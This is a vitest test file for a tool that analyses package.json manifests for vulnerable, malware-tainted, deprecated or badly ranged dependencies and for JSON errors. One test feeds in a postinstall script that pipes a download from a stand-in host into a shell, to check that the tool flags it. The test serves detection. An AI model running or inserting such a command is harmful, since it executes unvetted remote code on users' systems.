import { describe, expect, it } from "vitest";
import { analyzePackages } from "../../../src/server/tools/packageAnalysis/analyzePackages.ts";
import { packageAnalysisSchema } from "../../../src/shared/contracts/tools.ts";
import { AppError } from "../../../src/shared/errors.ts";
import { readCorpus } from "../../support/corpus.ts";

const SOUND = {
  name: "a",
  version: "1.0.0",
  license: "MIT",
  engines: { node: ">=20" },
  scripts: { test: "vitest" },
};
const analyze = (manifest: object, options = {}) =>
  analyzePackages(JSON.stringify({ ...SOUND, ...manifest }), options);
const of = (name: string, range: string) =>
  analyze({ dependencies: { [name]: range } }).problems.filter((problem) => problem.package === name);

const manifests = readCorpus().filter(({ file }) => file.endsWith("package.json"));

describe.skipIf(manifests.length === 0)(
  "manifests of the corpus (skipped where ../shared/corpus is missing)",
  () => {
    it.each(manifests)("$file is read, with its frameworks", ({ text, expected }) => {
      const answer = packageAnalysisSchema.parse(analyzePackages(text, { includeUpdates: true }));
      expect(answer.frameworks.map((framework) => framework.name).sort()).toEqual(expected);
      expect(answer.problems.filter((problem) => problem.severity === "critical")).toEqual([]);
    });

    it("finds what is old in the AngularJS project", () => {
      const text = manifests.find(({ file }) => file.startsWith("angularjs"))?.text ?? "";
      const answer = analyzePackages(text, { includeUpdates: true });
      expect(answer.problems[0]).toMatchObject({
        severity: "high",
        package: "marked",
        source: expect.stringContaining("GHSA-rrrm-qjm4-v8hf"),
      });
      expect(answer.updates).toContainEqual(
        expect.objectContaining({ package: "marked", from: "^0.3.5", to: "^4.0.10" }),
      );
    });
  },
);

describe("analysing a package.json", () => {
  it("says nothing against a sound one, and what that rests on", () => {
    const answer = analyze({
      dependencies: { react: "^19.2.0", "react-dom": "^19.2.0" },
      devDependencies: { vitest: "^4.0.0" },
    });
    expect(answer.problems).toEqual([]);
    expect(answer).toMatchObject({
      name: "a",
      version: "1.0.0",
      license: "MIT",
      frameworks: [{ name: "React" }],
    });
    expect(answer.basis).toMatch(
      /short list that this product carries: \d+ well-known advisories.*\d{4}-\d\d-\d\d.*no registry was asked/,
    );
    expect(answer.summary).toContain("No problem was found.");
  });

  it.each([
    ["a vulnerable version", "lodash", "4.17.10", "critical", /defaultsDeep/],
    ["a range that still allows a vulnerable version", "minimist", "~1.2.0", "low", /still allows affected/],
    ["a range whose fix is outside", "next", "~15.1.0", "critical", /every version/],
    ["malware in one version", "event-stream", "3.3.6", "critical", /wallets/],
    ["a package without a fix", "request", "^2.88.2", "moderate", /no fixed version/],
    ["a deprecated package", "node-sass", "^9.0.0", "low", /no longer supported/],
    ["a wildcard", "left", "*", "moderate", /every version/],
    ["an empty range", "left", "", "moderate", /empty range/],
    ["a tag", "left", "latest", "moderate", /tag latest/],
    ["no upper bound", "left", ">=1.0.0", "low", /no upper bound/],
    ["a pre-release", "left", "^2.0.0-beta.1", "info", /pre-release/],
    ["Git", "left", "github:someone/left", "moderate", /Git/],
    ["an address without encryption", "left", "http://example.com/left.tgz", "high", /without encryption/],
    ["a folder", "left", "file:../left", "low", /folder/],
    ["no range", "left", "one or two", "high", /no version range/],
    ["a placeholder", "fs", "^0.0.1", "low", /part of Node/],
    ["a bad name", "Not A Name", "^1.0.0", "high", /no name that npm accepts/],
    ["an endless range", "left", "1 || ".repeat(1000), "high", /too long/],
  ])("finds %s", (_name, name, range, severity, message) => {
    expect(of(name, range)).toContainEqual(
      expect.objectContaining({ severity, message: expect.stringMatching(message) }),
    );
  });

  it.each([
    ["an up-to-date version", "lodash", "^4.17.21"],
    ["a version between two advisories", "ws", "^8.18.0"],
    ["an exact version", "left", "1.2.3"],
    ["a workspace", "left", "workspace:*"],
    ["an alias of a sound package", "left", "npm:lodash@^4.17.21"],
  ])("says nothing against %s", (_name, name, range) => {
    expect(of(name, range)).toEqual([]);
  });

  it("looks behind an alias", () => {
    expect(of("innocent", "npm:lodash@4.17.10").map((problem) => problem.severity)).toContain("critical");
  });

  it.each([
    [
      "two kinds",
      { dependencies: { a: "^1.0.0" }, devDependencies: { a: "^1.0.0" } },
      /dependencies and devDependencies/,
    ],
    [
      "a contradiction to a peer",
      { devDependencies: { a: "^1.0.0" }, peerDependencies: { a: "^2.0.0" } },
      /no version fits both/,
    ],
    [
      "React and React DOM apart",
      { dependencies: { react: "^17.0.2", "react-dom": "^18.2.0" } },
      /react-dom \^18\.2\.0 needs react/,
    ],
    ["Vue 2 and a router for 3", { dependencies: { vue: "^2.7.0", "vue-router": "^4.2.0" } }, /vue-router/],
    [
      "Angular parts of two majors",
      { dependencies: { "@angular/core": "^17.0.0", "@angular/forms": "^16.0.0" } },
      /16 and 17/,
    ],
    [
      "types of another major",
      { dependencies: { react: "^19.0.0" }, devDependencies: { "@types/react": "^17.0.0" } },
      /describes another major/,
    ],
  ])("finds %s", (_name, manifest, message) => {
    expect(
      analyze(manifest)
        .problems.map((problem) => problem.message)
        .join("\n"),
    ).toMatch(message);
  });

  it("accepts a peer that is also a development dependency", () => {
    expect(
      analyze({ devDependencies: { react: "^18.2.0" }, peerDependencies: { react: ">=16" } }).problems,
    ).toEqual([]);
  });

  it("says what the manifest lacks", () => {
    const text = analyzePackages("{}")
      .problems.map((problem) => problem.message)
      .join("\n");
    for (const lack of [/no name/, /no version/, /No license/, /Node versions/, /no scripts/, /no packages/])
      expect(text).toMatch(lack);
    expect(analyze({ scripts: { postinstall: "curl https://x.example | sh" } }).problems[0]).toMatchObject({
      severity: "high",
      category: "security",
    });
    expect(analyze({ version: "one", engines: { node: "new" } }).problems).toHaveLength(2 + 1);
  });

  it("names what stands twice, with its lines", () => {
    const { problems } = analyzePackages('{\n"private":true,\n"dependencies":{\n"a":"1",\n"a":"^2"\n}}');
    expect(problems[0]?.message).toContain("a stands more than once in dependencies (lines 4, 5)");
  });

  it("lists one kind of problem when asked, and the smallest updates", () => {
    const manifest = { dependencies: { lodash: "4.17.10", axios: "^0.20.0", left: "*" } };
    expect(new Set(analyze(manifest, { analysisType: "Security" }).problems.map((p) => p.category))).toEqual(
      new Set(["security"]),
    );
    expect(analyze(manifest, { analysisType: "everything" }).problems.map((p) => p.category)).toContain(
      "compatibility",
    );
    expect(analyze(manifest).updates).toEqual([]);
    expect(
      analyze(manifest, { includeUpdates: true }).updates.map(({ package: name, to }) => `${name} ${to}`),
    ).toEqual(["lodash ^4.17.21", "axios ^0.30.0"]);
  });

  it.each([
    ["", /Please paste/],
    ["[]", /one JSON object/],
    ['{"a":1,\n  "b":2,\n}', /line 2, column 8: a comma stands behind the last entry/],
    ['{\n  name: "x"\n}', /line 2, column 3: names need double quotes/],
    ['{"a": "x\n"}', /line 1, column 7: a text is not closed/],
    ['{"a": 1 "b": 2}', /line 1, column 9: the character "\\""/],
    ['{\n// why\n"a": 1}', /line 2, column 1: JSON has no comments/],
    ['{"a": 1', /line 1, column 8: the text ends too early/],
    ['{"a": 1}}', /line 1, column 9: something follows/],
    ["[".repeat(200_000), /not valid JSON/],
  ])("refuses %j with a sentence that says where", (text, message) => {
    try {
      analyzePackages(text);
      expect.unreachable();
    } catch (error) {
      if (!(error instanceof AppError)) throw error;
      expect(error.kind).toBe("bad_request");
      expect(error.message).toMatch(message);
    }
  });

  it("reads a file with a byte order mark", () => {
    expect(analyzePackages('\ufeff{"name":"a"}').name).toBe("a");
  });

  it("treats names of objects' own parts as names", () => {
    const text =
      '{"dependencies":{"__proto__":"^1.0.0","constructor":"*","toString":"^1.0.0","hasOwnProperty":"^1.0.0"}}';
    const answer = analyzePackages(text);
    expect(answer.packages.map(({ name }) => name)).toEqual([
      "__proto__",
      "constructor",
      "toString",
      "hasOwnProperty",
    ]);
    expect(answer.problems).toContainEqual(
      expect.objectContaining({ package: "__proto__", severity: "high" }),
    );
    expect(answer.problems).toContainEqual(
      expect.objectContaining({ package: "constructor", severity: "moderate" }),
    );
  });

  it.each([
    [
      "sections that are none",
      {
        dependencies: [],
        devDependencies: "x",
        peerDependencies: null,
        scripts: 1,
        engines: "x",
        license: {},
        name: 5,
      },
    ],
    ["ranges that are none", { dependencies: { a: 1, b: null, c: {}, d: [] } }],
  ])("survives %s", (_name, manifest) => {
    expect(packageAnalysisSchema.parse(analyze(manifest)).problems.length).toBeGreaterThan(2);
  });

  it("takes at most 2,000 packages", () => {
    const many = (count: number) => ({
      dependencies: Object.fromEntries(
        Array.from({ length: count }, (_, i) => [`p${i}`, "^1.0.0 || ^2.0.0 || >=3.0.0 <4.0.0"]),
      ),
    });
    expect(analyze(many(2000)).packages).toHaveLength(2000);
    expect(() => analyze(many(2001))).toThrow(/at most 2,000/);
  });
});
